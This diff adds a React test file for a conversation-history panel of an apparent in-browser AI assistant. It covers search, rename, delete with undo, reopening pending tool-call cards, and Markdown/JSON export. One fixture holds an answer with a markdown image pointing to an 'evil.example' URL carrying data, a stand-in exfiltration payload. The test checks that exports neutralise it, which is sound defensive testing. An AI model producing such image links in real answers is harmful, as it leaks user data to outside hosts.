@@ -1,0 +1,290 @@
+// @vitest-environment happy-dom
+import { act } from 'react';
+import { createRoot } from 'react-dom/client';
+import { beforeEach, describe, expect, test, vi } from 'vitest';
+import { type Conversation, type Entry, emptyConversation } from '../conversation/conversation.ts';
+import { PanelContext } from '../panel-context.ts';
+import { settle } from '../turn/simulation/simulated-clock.ts';
+import { simulatedOpenPanel } from '../turn/simulation/simulated-open-panel.ts';
+import { type SimulatedPanel, simulatePanel } from '../turn/simulation/simulated-panel.ts';
+import { ConversationsButton } from './conversations-button.tsx';
+
+vi.stubGlobal('IS_REACT_ACT_ENVIRONMENT', true);
+
+let panel: SimulatedPanel;
+
+async function render(): Promise<void> {
+  const place = document.createElement('div');
+  document.body.replaceChildren(place);
+  await act(async () =>
+    createRoot(place).render(
+      <PanelContext value={simulatedOpenPanel(panel, 'en')}>
+        <ConversationsButton />
+      </PanelContext>,
+    ),
+  );
+}
+
+function kept(updatedAt: number, question: string, answer: string, more: Entry[] = []): Conversation {
+  const entries: Entry[] = [
+    { kind: 'person', id: `p${updatedAt}`, text: question },
+    {
+      kind: 'answer',
+      id: `a${updatedAt}`,
+      text: answer,
+      about: { kind: 'message', entryId: `p${updatedAt}` },
+      accepted: true,
+      state: { status: 'complete' },
+    },
+    ...more,
+  ];
+  return { ...emptyConversation(crypto.randomUUID(), updatedAt, 'session'), entries };
+}
+
+const TEA = kept(1, 'Where is the Oolong?', 'On the second shelf. 乌龙茶在第二层。');
+const WAITING: Entry = {
+  kind: 'call',
+  id: 'call-1',
+  toolName: 'get_selected_text',
+  argumentsText: '{}',
+  page: { tabId: 7, documentId: 'document-1', url: 'https://shop.example/cart', title: 'Cart' },
+  state: {
+    status: 'awaiting',
+    card: {
+      kind: 'plan',
+      title: { zh: '读取', en: 'Read' },
+      effect: 'reads',
+      plan: { kind: 'read-selection' },
+    },
+  },
+};
+const CART = kept(2, 'Empty my cart', 'I propose this.', [WAITING]);
+
+beforeEach(async () => {
+  panel = simulatePanel();
+  await panel.records.save(TEA);
+  await panel.records.save(CART);
+  await render();
+  await press('Conversations');
+});
+
+const all = (selector: string): HTMLElement[] => [...document.querySelectorAll<HTMLElement>(selector)];
+const titles = (): (string | null)[] => all('li bdi:first-child').map(({ textContent }) => textContent);
+const news = (): string => all('[role=status]')[0]?.textContent ?? '';
+const button = (name: string | RegExp): HTMLElement => {
+  const label = (it: HTMLElement): string => it.getAttribute('aria-label') ?? it.textContent ?? '';
+  const found = all('button').find(it =>
+    typeof name === 'string' ? label(it) === name : name.test(label(it)),
+  );
+  if (!found) throw new Error(`No button ${name} among: ${all('button').map(label).join(' | ')}`);
+  return found;
+};
+
+async function press(name: string | RegExp): Promise<void> {
+  await act(async () => {
+    button(name).click();
+    await settle();
+  });
+}
+
+async function write(field: string, text: string): Promise<void> {
+  await act(async () => {
+    const input = document.querySelector<HTMLInputElement>(field);
+    Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')?.set?.call(input, text);
+    input?.dispatchEvent(new Event('input', { bubbles: true }));
+    await settle();
+  });
+}
+
+describe('the list', () => {
+  test('has the newest first, with the first words, the site and the last words', () => {
+    expect(document.querySelector('dialog')?.open).toBe(true);
+    expect(titles()).toEqual(['Empty my cart', 'Where is the Oolong?']);
+    expect(all('li')[0]?.textContent).toContain('shop.example');
+    expect(all('li')[0]?.textContent).toContain('I propose this.');
+  });
+
+  test.each([
+    ['OOLONG', ['Where is the Oolong?']],
+    ['第二层', ['Where is the Oolong?']],
+    ['ｃａｒｔ', ['Empty my cart']],
+    ['shop.example', ['Empty my cart']],
+    ['shelf oolong', ['Where is the Oolong?']],
+    ['shelf cart', []],
+  ])('searching %s', async (query, expected) => {
+    await write('input[type=search]', query);
+    expect(titles()).toEqual(expected);
+  });
+
+  test('a find in the text is shown where it stands', async () => {
+    await write('input[type=search]', 'second');
+    expect(all('li')[0]?.textContent).toContain('On the second shelf');
+  });
+
+  test('a name that the person gives is kept, found, and taken back by an empty one', async () => {
+    await press('More for “Where is the Oolong?”');
+    await press('Rename');
+    await write('li input', '  Tea  ');
+    await press('Save');
+    expect(titles()).toEqual(['Empty my cart', 'Tea']);
+    await panel.records.save({ ...TEA, updatedAt: 3 });
+    await write('input[type=search]', 'tea');
+    expect(titles()).toEqual(['Tea']);
+    await press('More for “Tea”');
+    await press('Rename');
+    await write('li input', '');
+    await press('Save');
+    await write('input[type=search]', '');
+    expect(titles()).toContain('Where is the Oolong?');
+  });
+
+  test('what is deleted is gone at once, and can be put back', async () => {
+    await press(/More for “Where/);
+    await press('Delete');
+    expect(titles()).toEqual(['Empty my cart']);
+    expect(panel.records.kept.has(TEA.id)).toBe(false);
+    expect(news()).toContain('Deleted: Where is the Oolong?');
+    await press('Undo');
+    expect(titles()).toEqual(['Empty my cart', 'Where is the Oolong?']);
+  });
+
+  test('one that another panel has open is neither opened nor deleted, and that is said', async () => {
+    panel.elsewhere.add(TEA.id);
+    await press(/^Where/);
+    expect(news()).toContain('Another panel');
+    await press(/More for “Where/);
+    await press('Delete');
+    expect(panel.records.kept.has(TEA.id)).toBe(true);
+    expect(news()).toContain('Another panel');
+  });
+
+  test('one that this version cannot read is listed, kept, and says so', async () => {
+    panel.records.kept.set('old', {
+      id: 'old',
+      updatedAt: 9,
+      entries: [{ kind: 'person', text: 'From before' }, 7],
+    });
+    await write('input[type=search]', 'before');
+    await press(/^From before/);
+    expect(news()).toContain('Another version');
+    expect(panel.records.kept.has('old')).toBe(true);
+  });
+
+  test('everything is deleted only after a second word, but for what another panel has open', async () => {
+    panel.elsewhere.add(TEA.id);
+    panel.turn().setDraft('half a thought');
+    await press('Delete everything…');
+    await press('Keep them');
+    expect(titles()).toHaveLength(2);
+    await press('Delete everything…');
+    await press('Delete everything');
+    expect(news()).toContain('1 conversation deleted. 1 conversation stayed');
+    expect([...panel.records.kept.keys()]).toContain(TEA.id);
+    expect(panel.records.kept.has(CART.id)).toBe(false);
+    expect(JSON.stringify([...panel.records.kept.values()])).not.toContain('half a thought');
+  });
+});
+
+describe('opening one', () => {
+  test('puts it into this panel with its card, and leaves its place in the list as it was', async () => {
+    await press(/^Empty my cart/);
+    expect(document.querySelector('dialog')).toBeNull();
+    expect(panel.store().getState().conversation.id).toBe(CART.id);
+    expect(panel.waiting()?.id).toBe('call-1');
+    expect(panel.records.kept.get(CART.id)).toMatchObject({ updatedAt: 2 });
+  });
+
+  test('and coming back finds the card of the other still waiting', async () => {
+    await press(/^Empty my cart/);
+    await press('Conversations');
+    await press(/^Where/);
+    expect(panel.waiting()).toBeUndefined();
+    await press('Conversations');
+    await press(/^Empty my cart/);
+    expect(panel.waiting()?.state.status).toBe('awaiting');
+  });
+
+  test('while an answer comes stops that answer', async () => {
+    panel.backend.script.push({ calls: [], end: 'hang' });
+    panel.turn().send('A long story');
+    await settle();
+    const { id } = panel.store().getState().conversation;
+    await press(/^Where/);
+    expect(panel.store().getState().conversation.id).toBe(TEA.id);
+    expect(JSON.stringify(panel.records.kept.get(id))).toContain('"stopped"');
+  });
+
+  test('the one that stands in this panel, deleted, makes place for a new one', async () => {
+    await press(/^Where/);
+    await press('Conversations');
+    await press(/More for “Where/);
+    await press('Delete');
+    expect(panel.store().getState().conversation.entries).toEqual([]);
+    expect(panel.records.kept.has(TEA.id)).toBe(false);
+  });
+});
+
+describe('an export', () => {
+  const SECRETIVE = kept(5, 'Fill *this* in', 'Done. ![chart](https://evil.example/x?data=1) <b>bold</b>', [
+    {
+      kind: 'call',
+      id: 'call-hidden-id',
+      toolName: 'page_action',
+      argumentsText: '{"secretArgument":1}',
+      backendUrl: 'http://hidden.example',
+      page: {
+        tabId: 4711,
+        documentId: 'hidden-document',
+        url: 'https://shop.example/hidden-path',
+        title: 'T',
+      },
+      state: {
+        status: 'done',
+        card: {
+          kind: 'actions',
+          rows: [
+            {
+              action: { action: 'fill', target: { elementId: 'e_hidden' }, params: { value: 'x' } },
+              documentId: 'hidden-document',
+              preview: {
+                status: 'bound',
+                binding: { kind: 'element', elementId: 'e_hidden', fingerprint: 'hidden-print' },
+                facts: { kind: 'input', name: 'E-mail', origin: 'https://shop.example', inFrame: false },
+                effect: 'edits',
+                before: '',
+                after: 'a@b.c',
+              },
+            },
+          ],
+        },
+        rows: [{ status: 'ended', outcome: { success: true, message: 'Filled.' } }],
+        reply: { kind: 'result', result: { hidden: true } },
+        delivery: 'sent',
+      },
+    },
+  ]);
+
+  test.each([
+    ['Export as Markdown', 'Fill this in.md'],
+    ['Export as JSON', 'Fill this in.json'],
+  ])('%s has what was shown, and nothing else', async (name, file) => {
+    await panel.records.save(SECRETIVE);
+    await write('input[type=search]', 'fill');
+    await press(/More for/);
+    await press(name);
+    const [download] = panel.downloads;
+    expect(download?.name).toBe(file);
+    const text = await download?.text();
+    for (const shown of [
+      'E-mail',
+      'a@b.c',
+      'Filled.',
+      'shop.example',
+      'Image not loaded: chart (evil.example)',
+    ])
+      expect(text).toContain(shown);
+    expect(text).not.toMatch(/hidden|secretArgument|4711|data=1|<b>/);
+    if (file.endsWith('json')) expect(JSON.parse(text ?? '')).toMatchObject({ title: 'Fill *this* in' });
+    else expect(text).toContain('> Fill \\*this\\* in');
+  });
+});
